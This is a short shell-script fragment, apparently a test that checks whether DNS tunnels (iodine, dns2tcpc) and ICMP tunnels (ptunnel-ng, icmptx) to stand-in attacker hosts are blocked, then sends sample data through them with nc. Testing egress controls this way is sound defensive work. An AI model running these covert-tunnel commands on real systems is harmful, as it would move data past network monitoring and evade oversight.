# DNS tunnels to a server of the attacker's and through the resolver; ICMP tunnels, which need a raw socket.
b iodine -f -r -P secret "$BAD4" iodine.attacker.example
b iodine -f -r -P secret 203.0.113.53 iodine-two.attacker.example
b dns2tcpc -d 1 -z dns2tcp.attacker.example "$BAD4"
b dns2tcpc -d 1 -z dns2tcp-two.attacker.example 203.0.113.53
b ptunnel-ng -p"$BAD4" -l18000 -r203.0.113.10 -R22
b icmptx -c "$BAD4"
sleep 0.5
printf 'pt-data' | t nc.openbsd -w 1 127.0.0.1 18000
ip addr add 198.51.100.2/24 dev tun0 && ip link set tun0 up
printf 'tx-data' | t nc.openbsd -u -w 1 198.51.100.1 9
wait
